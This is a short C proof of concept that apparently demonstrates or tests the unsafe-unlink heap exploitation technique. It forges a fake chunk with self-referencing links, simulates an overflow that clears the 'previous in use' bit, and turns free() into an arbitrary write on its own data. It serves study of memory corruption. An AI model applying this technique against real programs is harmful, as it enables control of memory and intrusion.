/*
 * metadata: a fake chunk inside a live block, whose links point to the variable that points to the block, passes
 * the check that unlink has had since 2004. The variable then points to itself, and the program's next write
 * through it goes where the attacker likes.
 */
#include <stdint.h>
#include <stdlib.h>

/* Through volatile pointers, so that the compiler knows nothing about the blocks. */
static void *(*volatile allocate)(size_t) = malloc;
static void (*volatile release)(void *) = free;
typedef volatile uint64_t Word;

enum { GOAL_REACHED = 42 };

/* Uses up what the start of the program left free, so that the next blocks of about this size lie side by side. */
static void settle(size_t bytes) {
  for (int i = 0; i < 256; i++) allocate(bytes);
}

static Word *volatile block;
static Word secret[4];

int main(void) {
  settle(1048);
  block = allocate(1048);
  Word *next = allocate(1048);
  allocate(1048);
  block[0] = 0;
  block[1] = 1040;                               /* the fake chunk reaches up to the next block's chunk */
  block[2] = (uint64_t)(uintptr_t)&block - 24;   /* fd->bk is the variable, which holds the fake chunk's address */
  block[3] = (uint64_t)(uintptr_t)&block - 16;   /* and so is bk->fd */
  block[130] = 1040;                             /* the overflow: "the size before" is that of the fake chunk, */
  block[131] = 1056;                             /* and "previous in use" is cleared */
  release((void *)next);
  if (block != (Word *)((uintptr_t)&block - 24)) return 0;
  block[3] = (uint64_t)(uintptr_t)secret;        /* now the program writes over its own pointer, */
  block[0] = 42;                                 /* and then wherever that points */
  return secret[0] == 42 ? GOAL_REACHED : 0;
}
